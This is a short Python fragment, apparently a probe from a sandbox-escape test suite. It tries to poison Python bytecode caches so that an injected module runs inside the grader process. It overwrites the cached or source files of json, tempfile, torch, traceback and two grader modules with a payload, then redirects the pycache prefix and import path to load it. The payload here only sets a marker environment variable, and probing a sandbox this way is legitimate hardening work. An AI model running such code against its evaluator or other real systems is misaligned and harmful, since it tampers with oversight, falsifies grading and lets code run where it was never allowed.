# A __pycache__ that Python believes would run in the next process that imports the module, the grader's own among them.
# prelude
import importlib.util
import py_compile

if FIRST:
    sys.dont_write_bytecode = False
    evil = f"{SCRATCH}/owned_module.py"
    with open(evil, "w") as file:
        file.write("import os\nos.environ['OWNED'] = '1'\n")
    tried("cache")
    for module in (json, tempfile, torch, sys.modules["grader.wire"], sys.modules["grader.guest.runner"], traceback):
        for target in (importlib.util.cache_from_source(module.__file__), module.__file__ + "c", module.__file__):
            try:
                py_compile.compile(evil, cfile=target, doraise=True)
                loot(f"{target} was written")
            except (OSError, py_compile.PyCompileError):
                pass
    tried("prefix")
    sys.pycache_prefix = f"{SCRATCH}/owned_cache"
    sys.path.insert(0, SCRATCH)
    __import__("owned_module")
